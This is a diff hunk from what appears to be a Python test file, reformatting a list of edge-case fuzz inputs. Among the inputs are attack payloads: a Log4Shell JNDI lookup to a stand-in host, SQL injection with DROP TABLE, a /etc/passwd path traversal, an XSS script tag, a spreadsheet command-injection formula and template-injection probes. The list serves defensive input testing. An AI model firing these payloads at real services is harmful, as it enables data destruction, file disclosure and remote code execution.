@@ -19,9 +19,8 @@ STRINGS = [
     "Straße ẞ", "日本語テスト", "👩‍👩‍👧‍👦🏳️‍🌈", "مرحبا", "undefined", "null", "None", "true", "NaN", "-Infinity",
     "0x1F", "1e309", "-1", "9" * 40, "1/0", "${jndi:ldap://x.example}", "{{ 7*7 }}", "{% debug %}", "%s%n%d", "%00%ff",
     "'; DROP TABLE tenants_tenant; --", "' OR 1=1 --", "\\", "\\u0000", "../../../etc/passwd",
-    "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "a@b@c", "@", "*.", "*.*", "x" * 5000, "xn--a", "a" * 64 + "@example.net",
-    "[::1]",
-    "user@[127.0.0.1]", "()[]{}", "(?:a+)+$", "__proto__", "constructor",
+    "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "a@b@c", "@", "*.", "*.*", "x" * 5000, "xn--a",
+    "a" * 64 + "@example.net", "[::1]", "user@[127.0.0.1]", "()[]{}", "(?:a+)+$", "__proto__", "constructor",
 ]  # fmt: skip
 
 
